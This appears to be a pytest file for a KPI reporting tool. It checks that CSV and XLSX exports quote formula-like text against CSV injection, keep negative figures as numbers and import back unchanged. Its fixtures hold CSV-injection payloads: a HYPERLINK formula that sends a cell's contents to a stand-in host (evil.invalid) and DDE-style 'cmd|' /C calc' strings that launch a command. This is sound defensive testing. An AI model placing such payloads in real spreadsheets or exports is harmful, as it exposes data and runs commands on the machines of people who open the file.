"""Exports are safe to open in a spreadsheet: free text never runs as a formula (CSV injection),
figures stay numbers, and the wide layout still imports back to the same figures."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
import pytest
from click.testing import CliRunner

from kpiboard.cli import main
from kpiboard.packs.exporter import export_results, export_wide
from kpiboard.packs.import_rows import check_import_file
from kpiboard.packs.loader import load_pack
from kpiboard.packs.spreadsheet_safety import neutralise_formula

HOSTILE_REASON = '=HYPERLINK("http://evil.invalid/?"&A1,"Click for details")'
HOSTILE_BY = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_TITLE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_pack_dir(pack_dir):
    """The test pack with formula-like text in an override and a title, and a negative figure."""
    asc01 = pack_dir / "indicators/ASC01.yaml"
    text = asc01.read_text(encoding="utf-8")
    text = text.replace("reason: Figure under review", f"reason: '{HOSTILE_REASON}'")
    text = text.replace("by: Head of Performance", f'by: "{HOSTILE_BY}"')
    asc01.write_text(text, encoding="utf-8")
    asc02 = pack_dir / "indicators/ASC02.yaml"
    asc02.write_text(
        asc02.read_text(encoding="utf-8").replace(
            "title: Delayed transfers of care", f'title: "{HOSTILE_TITLE}"'
        ),
        encoding="utf-8",
    )
    actuals = pack_dir / "data/actuals.csv"
    actuals.write_text(
        actuals.read_text(encoding="utf-8").replace(
            "ASC02,2013-09,actual,9,", "ASC02,2013-09,actual,-2068,"
        ),
        encoding="utf-8",
    )
    return pack_dir


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Figure under review", "Figure under review"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_is_quoted(text, expected):
    assert neutralise_formula(text) == expected


@pytest.mark.parametrize("value", [-2068, -2068.5, 0.0, True, None])
def test_figures_and_flags_are_left_alone(value):
    assert neutralise_formula(value) is value


def _find(rows: list[dict], indicator: str, period: str) -> dict:
    return next(r for r in rows if r["indicator"] == indicator and r["period"] == period)


def test_results_csv_quotes_formula_text_and_keeps_negative_figures(hostile_pack_dir, tmp_path):
    out = tmp_path / "results.csv"
    export_results(load_pack(hostile_pack_dir), out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    override = _find(rows, "ASC01", "2013-08")
    assert override["override_reason"] == "'" + HOSTILE_REASON
    assert override["override_by"] == "'" + HOSTILE_BY
    negative = _find(rows, "ASC02", "2013-09")
    assert negative["title"] == "'" + HOSTILE_TITLE
    assert negative["actual"] == "-2068"
    risky = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, cell in row.items():
            if column != "actual":
                assert not cell.startswith(risky), (column, cell)


def test_results_xlsx_writes_quoted_strings_and_real_numbers(hostile_pack_dir, tmp_path):
    out = tmp_path / "results.xlsx"
    export_results(load_pack(hostile_pack_dir), out)
    book = openpyxl.load_workbook(out)
    for ws in book.worksheets:
        assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row), ws.title
    ws = book["Results"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)]
    override = _find(rows, "ASC01", "2013-08")
    assert (override["override_reason"], override["override_by"]) == (
        "'" + HOSTILE_REASON,
        "'" + HOSTILE_BY,
    )
    negative = _find(rows, "ASC02", "2013-09")
    assert negative["title"] == "'" + HOSTILE_TITLE
    assert negative["actual"] == -2068
    summary = book["Summary"]
    titles = {r[0].value: r[1].value for r in summary.iter_rows(min_row=2)}
    assert titles["ASC02"] == "'" + HOSTILE_TITLE


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_wide_export_still_imports_to_the_same_figures(hostile_pack_dir, tmp_path, suffix):
    pack = load_pack(hostile_pack_dir)
    out = tmp_path / f"trend{suffix}"
    export_wide(pack, out)
    checked = check_import_file(pack, out)
    assert checked.layout == "wide"
    assert checked.rows
    for row in checked.rows:
        data = pack.data[row.indicator]
        stored = data.values[row.series][data.periods.index(row.period)]
        assert row.value == stored and not math.isnan(stored)
    assert any(row.value == -2068 for row in checked.rows)


def test_rate_csv_quotes_formula_text(hostile_pack_dir):
    result = CliRunner().invoke(main, ["rate", str(hostile_pack_dir), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    override = _find(rows, "ASC01", "2013-08")
    assert override["override_reason"] == "'" + HOSTILE_REASON
    assert override["override_by"] == "'" + HOSTILE_BY
    negative = _find(rows, "ASC02", "2013-09")
    assert negative["title"] == "'" + HOSTILE_TITLE
    assert float(negative["actual"]) == -2068
